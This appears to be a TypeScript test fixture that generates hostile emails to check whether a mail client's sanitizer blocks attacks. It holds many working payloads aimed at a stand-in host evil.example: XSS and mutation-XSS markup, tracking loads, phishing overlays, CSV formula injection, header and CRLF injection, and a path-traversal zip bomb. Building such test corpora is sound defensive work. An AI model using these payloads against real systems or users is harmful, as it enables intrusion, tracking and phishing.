/**
 * Mails that attack their reader (P40): each tries to run, to load, to send or to lead somewhere. Whatever runs sets
 * `pwned`, whatever loads asks EVIL, so that a browser tells whether any of them got through.
 */
import { deflateRawSync } from 'node:zlib';

export const EVIL = 'https://evil.example';
const JS = `try{top.pwned=1}catch{}window.pwned=1;new Image().src='${EVIL}/script'`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script><image href="${EVIL}/svg"/></svg>`;
const PAGE = `<script>${JS}</script>`;
const data = (type: string, text: string): string => `data:${type};base64,${Buffer.from(text).toString('base64')}`;
/** One dot. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
/** A picture to one reader, a script to another: `GIF89a` is a name that can be assigned to. */
const GIF_AND_JS = Buffer.from(`GIF89a/*\x01\0*/=1;${JS}//`, 'latin1');

/** HTML that a mail may hold, by what it tries. */
export const HTML: Readonly<Record<string, string>> = {
  'a script': `<p>Hello</p><script>${JS}</script><script src="${EVIL}/src.js"></script><scr<script>ipt>${JS}</scr</script>ipt>`,
  'handlers of events': `<img src=x onerror="${JS}"><body onload="${JS}"><div onmouseover="${JS}" onclick="${JS}">Click</div><details open ontoggle="${JS}">x</details><input autofocus onfocus="${JS}"><video onerror="${JS}"><source></video><marquee onstart="${JS}">m</marquee><p/onclick=${JS}>y<b style=animation-name:x onanimationstart="${JS}">z`,
  'SVG with a script': `${SVG}<svg><a xlink:href="javascript:${JS}"><text y=20>Click</text></a><animate attributeName=href values="javascript:${JS}"/><foreignObject><iframe srcdoc="${PAGE}"></iframe></foreignObject><use href="${EVIL}/use.svg#x"/></svg>`,
  MathML: `<math><mtext><a href="javascript:${JS}">Click</a></mtext><maction actiontype="statusline" xlink:href="javascript:${JS}">Click</maction></math>`,
  'a style sheet': `<style>@import url(${EVIL}/import.css);body{background:url("${EVIL}/body")}@font-face{font-family:x;src:url(${EVIL}/font)}a{behavior:url(${EVIL}/htc)}</style><link rel=stylesheet href="${EVIL}/link.css"><p>Hello</p>`,
  'styles that load': `<p style="background:url(${EVIL}/style)">a</p><p style="background:\\75rl(${EVIL}/escaped)">b</p><p style="list-style-image:url('${EVIL}/list');display:list-item">c</p><p style="width:expression(${JS})">d</p><p style="background-image:image-set('${EVIL}/set' 1x)">e</p><p style="color:red}@import '${EVIL}/broken';{">f</p><p style="cursor:url(${EVIL}/cursor),auto">g</p><table background="${EVIL}/table"><tr><td background="${EVIL}/td">h</table>`,
  'a style that covers the page': `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">Please sign in again</div>`,
  'a form': `<form action="${EVIL}/form" method=post><input name=password><button formaction="javascript:${JS}">Send</button><button formaction="${EVIL}/button" formtarget=_top>Click</button><input type=image src="${EVIL}/input"></form><isindex action="${EVIL}/isindex"><button form=x>Click</button>`,
  'a page that moves': `<meta http-equiv=refresh content="0;url=${EVIL}/refresh"><meta http-equiv="refresh" content="0; url=data:text/html,${PAGE}"><base href="${EVIL}/" target=_top><a href="relative">Click</a><img src="relative.png">`,
  frames: `<iframe src="${EVIL}/iframe"></iframe><iframe srcdoc="${PAGE.replaceAll('"', '&quot;')}"></iframe><iframe src="javascript:${JS}"></iframe><frameset><frame src="${EVIL}/frame"></frameset><object data="${EVIL}/object"><param name=movie value="${EVIL}/param"></object><embed src="${EVIL}/embed"><applet code="${EVIL}/applet"></applet><portal src="${EVIL}/portal"></portal><fencedframe></fencedframe>`,
  'pictures from elsewhere': `<img src="${EVIL}/pixel.gif" width=1 height=1><img srcset="${EVIL}/set.gif 1x, ${EVIL}/set2.gif 2x"><picture><source srcset="${EVIL}/source.gif"><img src="//evil.example/relative.gif" alt="A picture"></picture><video poster="${EVIL}/poster" src="${EVIL}/video"></video><audio src="${EVIL}/audio" autoplay></audio><img lowsrc="${EVIL}/low" dynsrc="${EVIL}/dyn"><image src="${EVIL}/image"><input type=image src="${EVIL}/input"><img src="http:/\\evil.example/slash">`,
  'links that load beforehand': `<link rel=prefetch href="${EVIL}/prefetch"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="${EVIL}"><link rel=prerender href="${EVIL}/prerender"><link rel=modulepreload href="${EVIL}/module"><link rel=icon href="${EVIL}/icon"><link rel=manifest href="${EVIL}/manifest"><a ping="${EVIL}/ping" href="${EVIL}/pinged">Click</a>`,
  'links to scripts': `<a href="javascript:${JS}">Click</a><a href="JaVaScRiPt:${JS}">Click</a><a href="java&#9;script:${JS}">Click</a><a href="&#x6A;avascript&colon;${JS}">Click</a><a href=" &#1;javascript:${JS}">Click</a><a href="vbscript:x">Click</a><a href="${data('text/html', PAGE)}">Click</a><a href="${data('image/svg+xml', SVG)}" target=_top>Click</a>`,
  'links that take the page away': `<a href="${EVIL}/top" target=_top>Click</a><a href="${EVIL}/parent" target=_parent>Click</a><a href="${EVIL}/blank" target=_blank rel=opener>Click</a><p><map name=m><area shape=default href="${EVIL}/area" target=_top></map><img usemap="#m" src="cid:dot" width=300 height=200>`,
  'pictures that are pages': `<img src="${data('image/svg+xml', SVG)}"><img src="${data('text/html', PAGE)}"><object data="${data('text/html', PAGE)}"></object><embed src="${data('image/svg+xml', SVG)}"><img src="cid:svg"><img src="cid:page"><img src="cid:polyglot"><img src="cid:dot">`,
  'mXSS: noscript': `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript><p>Hello</p>`,
  'mXSS: math and mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${JS}&gt;">`,
  'mXSS: a form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${JS}">`,
  'mXSS: template': `<template><script>${JS}</script><img src=x onerror="${JS}"></template><div><template shadowrootmode=open><script>${JS}</script></template></div>`,
  'mXSS: select': `<select><option><style></option></select><img src=x onerror="${JS}"></style></option></select><select><iframe></select><img src onerror="${JS}">`,
  'mXSS: a style in SVG': `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  'mXSS: comments': `<!--><img src=x onerror="${JS}">--><!--!><img src=x onerror="${JS}">--!><![CDATA[<img src=x onerror="${JS}">]]><?xml <img src=x onerror="${JS}">?><!doctype <img src=x onerror=${JS}>>`,
  'mXSS: raw text': `<xmp><p title="</xmp><img src=x onerror=${JS}>"></xmp><noembed><img title="</noembed><img src onerror=${JS}>"></noembed><textarea><img title="</textarea><img src onerror=${JS}>"></textarea><title><img title="</title><img src onerror=${JS}>"></title>`,
  'mXSS: what ends nothing': `<p>Hello</p><plaintext><script>${JS}</script>`,
  'marks of attributes': `<img alt="\`><img src=x onerror=${JS}>" src=x><p title='"><script>${JS}</script>'>x</p><p a='"' b='"' onclick='${JS}'>Click</p><img """><script>${JS}</script>">`,
  'old ways of browsers': `<!--[if gte IE 4]><script>${JS}</script><![endif]--><xml id=x><a><b>&lt;script>${JS}&lt;/script></b></a></xml><span datasrc=#x datafld=b dataformatas=html></span><layer src="${EVIL}/layer"></layer><bgsound src="${EVIL}/sound"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="${PAGE}">`,
  'UTF-7': `+ADw-script+AD4-${JS}+ADw-/script+AD4-<meta http-equiv=content-type content="text/html; charset=utf-7">`,
  'names of the page': `<a id=body name=cookie>x</a><img name=getElementById><form name=body></form><p class="go card" id="top">Click</p><style>.card{display:none}</style>`,
  'a page in a page': `</div></body></html><script>${JS}</script><html><body><main><h1>Please sign in again</h1></main>`,
  'very deep': `${'<div><b>'.repeat(5_000)}deep<script>${JS}</script>`,
};

type Attachment = { name: string; type: string; content: Buffer; cid?: string; header?: string };

/** A file that unpacks to a path above it, and to very much. */
const zip = (): Buffer => {
  const name = Buffer.from('../../../../etc/cron.d/evil');
  const bytes = deflateRawSync(Buffer.alloc(100_000));
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(bytes.length, 18);
  head.writeUInt32LE(100_000, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, name, bytes]);
};

/** Files that run where they are shown, or call themselves what they are not. */
export const FILES: readonly Attachment[] = [
  { name: 'page.html', type: 'text/html', content: Buffer.from(PAGE) },
  { name: 'picture.svg', type: 'image/svg+xml', content: Buffer.from(SVG), cid: 'svg' },
  { name: 'picture.png', type: 'image/png', content: Buffer.from(PAGE), cid: 'page' },
  { name: 'polyglot.gif', type: 'image/gif', content: GIF_AND_JS, cid: 'polyglot' },
  { name: 'dot.png', type: 'image/png', content: PNG, cid: 'dot' },
  { name: 'polyglot.pdf', type: 'application/pdf', content: Buffer.from(`%PDF-1.4\n${PAGE}\n%%EOF`) },
  {
    name: 'page.xhtml',
    type: 'application/xhtml+xml',
    content: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${PAGE}</html>`),
  },
  { name: 'feed.xml', type: 'text/xml', content: Buffer.from(`<?xml-stylesheet href="${EVIL}/xsl"?><a/>`) },
  { name: 'invoice\u202Efdp.exe', type: 'application/pdf', content: Buffer.from('MZ') },
  { name: 'a"; filename=x.html; b="\r\nSet-Cookie: a=b', type: 'application/octet-stream', content: Buffer.from('x') },
  { name: '../../../../windows/system32/evil.dll', type: 'application/x-msdownload', content: Buffer.from('MZ') },
  { name: '<img src=x onerror=alert(1)>.txt', type: 'text/html"><script>', content: Buffer.from('x') },
  { name: 'list.csv', type: 'text/csv', content: Buffer.from(`=cmd|' /C calc'!A0,=HYPERLINK("${EVIL}"),@SUM(1)\r\n`) },
  { name: '42.zip', type: 'application/zip', content: zip() },
  { name: `${'long'.repeat(100)}.html`, type: 'text/html;charset=utf-7', content: Buffer.from('+ADw-script+AD4-') },
  { name: 'con', type: 'application/javascript', content: Buffer.from(JS) },
  {
    name: 'shortcut.url',
    type: 'application/internet-shortcut',
    content: Buffer.from(`[InternetShortcut]\nURL=${EVIL}`),
  },
];

/** Names and subjects that are markup, break headers or turn a line around. */
export const NAMES = [
  `"><script>${JS}</script>`,
  `</title><img src=x onerror="${JS}">`,
  'Bank\u202Egro.elpmaxe',
  "=cmd|' /C calc'!A0",
  'Ana\r\nBcc: all@example.org',
  `' onmouseover='${JS}`,
  '{{constructor.constructor("1")()}}',
];

export type HostileMail = { readonly what: string; readonly raw: Buffer };

const word = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
const base64 = (bytes: Buffer): string => bytes.toString('base64').replaceAll(/.{76}/g, '$&\r\n');

/** One raw mail; `n` makes it another mail than the others. */
function mail(n: number, what: string, html: string, files: readonly Attachment[], text?: string): HostileMail {
  const name = NAMES[n % NAMES.length]!;
  const part = (headers: readonly string[], body: Buffer) =>
    ['--b', ...headers, 'Content-Transfer-Encoding: base64', '', base64(body)].join('\r\n');
  const lines = [
    `From: ${word(name)} <hostile${n}@example.org>`,
    'To: billing@baton.test',
    `Subject: ${word(`${name} ${what}`)}`,
    `Message-ID: <hostile-${n}@example.org>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary=b',
    '',
    ...(text === undefined ? [] : [part(['Content-Type: text/plain; charset=utf-8'], Buffer.from(text))]),
    part(['Content-Type: text/html; charset=utf-8'], Buffer.from(html)),
    ...files.map(({ name: file, type, content, cid }) =>
      part(
        [
          `Content-Type: ${type}`,
          `Content-Disposition: ${cid === undefined ? 'attachment' : 'inline'}; filename*=utf-8''${encodeURIComponent(file)}`,
          ...(cid === undefined ? [] : [`Content-ID: <${cid}>`]),
        ],
        content,
      ),
    ),
    '--b--',
    '',
  ];
  return { what, raw: Buffer.from(lines.join('\r\n')) };
}

/** The corpus: a mail for each kind of HTML, and one with every file and hostile words in plain text. */
export const hostileMails = (): HostileMail[] => [
  mail(
    0,
    'every file',
    '<p>See the files.</p>',
    FILES,
    `See the files.\n${Object.values(HTML).slice(0, 6).join('\n')}`,
  ),
  ...Object.entries(HTML).map(([what, html], i) =>
    mail(
      i + 1,
      what,
      html,
      FILES.filter(({ cid }) => cid !== undefined && html.includes(`cid:${cid}`)),
    ),
  ),
];
